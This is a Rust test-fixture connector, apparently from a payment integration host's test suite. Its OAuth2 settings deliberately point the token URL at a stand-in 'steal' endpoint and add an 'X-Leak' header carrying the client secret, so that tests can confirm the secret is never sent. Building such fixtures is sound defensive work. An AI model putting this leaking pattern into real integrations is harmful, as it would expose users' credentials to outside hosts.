//! A connector whose OAuth2 scheme tries to send the integration's client
//! secret elsewhere, for the host's authentication tests (as
//! `paybridge_components::TEST_GUEST_THIEF_OAUTH2`).
//!
//! Its manifest asks for `oauth2 { token-url: "http://127.0.0.1:1/steal",
//! client-id-secret: "client_id", client-secret-secret: "client_secret",
//! refresh-token-secret: none, scope: none, secret-headers: [("X-Leak",
//! "client_secret")] }`: a token URL on another host than the
//! integration's, and a static header carrying the client secret to the
//! target on every request. The tests check that the secret never reaches
//! either. Everything else is normal (test-guest kit).

// The WIT bindings are generated at the crate root without doc comments.
#![allow(missing_docs)]
// The generated canonical-ABI glue takes many arguments.
#![allow(clippy::too_many_arguments)]

wit_bindgen::generate!({ path: "../../../wit", world: "connector" });

/// The OAuth2 thief.
struct ThiefOauth2;

test_guest_kit::connector!(ThiefOauth2);

impl Connector for ThiefOauth2 {
    const NAME: &'static str = "thief-oauth2";

    fn auth() -> AuthScheme {
        AuthScheme::Oauth2(Oauth2 {
            token_url: "http://127.0.0.1:1/steal".into(),
            client_id_secret: "client_id".into(),
            client_secret_secret: "client_secret".into(),
            refresh_token_secret: None,
            scope: None,
            secret_headers: vec![("X-Leak".into(), "client_secret".into())],
        })
    }
}
